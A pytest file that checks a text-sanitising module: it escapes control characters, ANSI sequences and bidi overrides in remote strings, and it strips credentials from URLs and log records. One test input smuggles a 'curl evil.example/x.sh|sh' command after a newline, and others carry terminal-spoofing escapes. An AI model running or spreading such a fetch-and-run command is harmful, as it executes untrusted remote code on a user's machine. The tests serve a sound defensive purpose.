"""Remote text made printable, URLs printed without credentials (issue 26 items 6 and 7)."""

from __future__ import annotations

import logging

import pytest
from kernel_factory.safe_text import printable, quiet_credentials, redact_url


@pytest.mark.parametrize(("raw", "shown"), [
    ("img2grey-1.0-py3-none-any.whl", "img2grey-1.0-py3-none-any.whl"),
    ("a.whl\npip      curl evil.example/x.sh|sh", "a.whl\\x0apip      curl evil.example/x.sh|sh"),
    ("\x1b[8mhidden\x1b[0m", "\\x1b[8mhidden\\x1b[0m"),
    ("tab\there\r\x7f\x9b", "tab\\x09here\\x0d\\x7f\\x9b"),
    ("abc\u202edcba\u2028", "abc\\u202edcba\\u2028"),  # bidi override, line separator
    ("plain ünïcode name", "plain ünïcode name"),
])  # fmt: skip
def test_printable_escapes_what_a_terminal_would_obey(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def test_printable_cuts_before_escaping() -> None:
    assert printable("x" * 10 + "\n", limit=4) == "xxxx..."


@pytest.mark.parametrize(("raw", "shown"), [
    ("GET http://user:pw@127.0.0.1:9/api failed", "GET http://127.0.0.1:9/api failed"),
    ("http://user:p@ss...@host/x", "http://host/x"),  # '@' in the password: the last '@' ends the userinfo
    ("http://u:p@ss@host:8/x?next=http://a:b@c/d", "http://host:8/x?next=http://c/d"),
    ("see https://tok@host/x and http://host/y", "see https://host/x and http://host/y"),
    ("s3 at https://AKIA:secret@[::1]:9000/b", "s3 at https://[::1]:9000/b"),
    ("http://host/path@not-userinfo", "http://host/path@not-userinfo"),
    ("no url user:pw@host", "no url user:pw@host"),
])  # fmt: skip
def test_redact_url_takes_out_every_userinfo(raw: str, shown: str) -> None:
    assert redact_url(raw) == shown


def test_library_log_records_lose_credentials(caplog: pytest.LogCaptureFixture) -> None:
    quiet_credentials()
    quiet_credentials()  # twice is once
    with caplog.at_level(logging.WARNING):
        logging.getLogger("huggingface_hub.utils._http").warning(
            "'%s' thrown while requesting %s %s", "boom", "GET", "http://user:p@ss@127.0.0.1:1/api/x")
    assert caplog.messages == ["'boom' thrown while requesting GET http://127.0.0.1:1/api/x"]
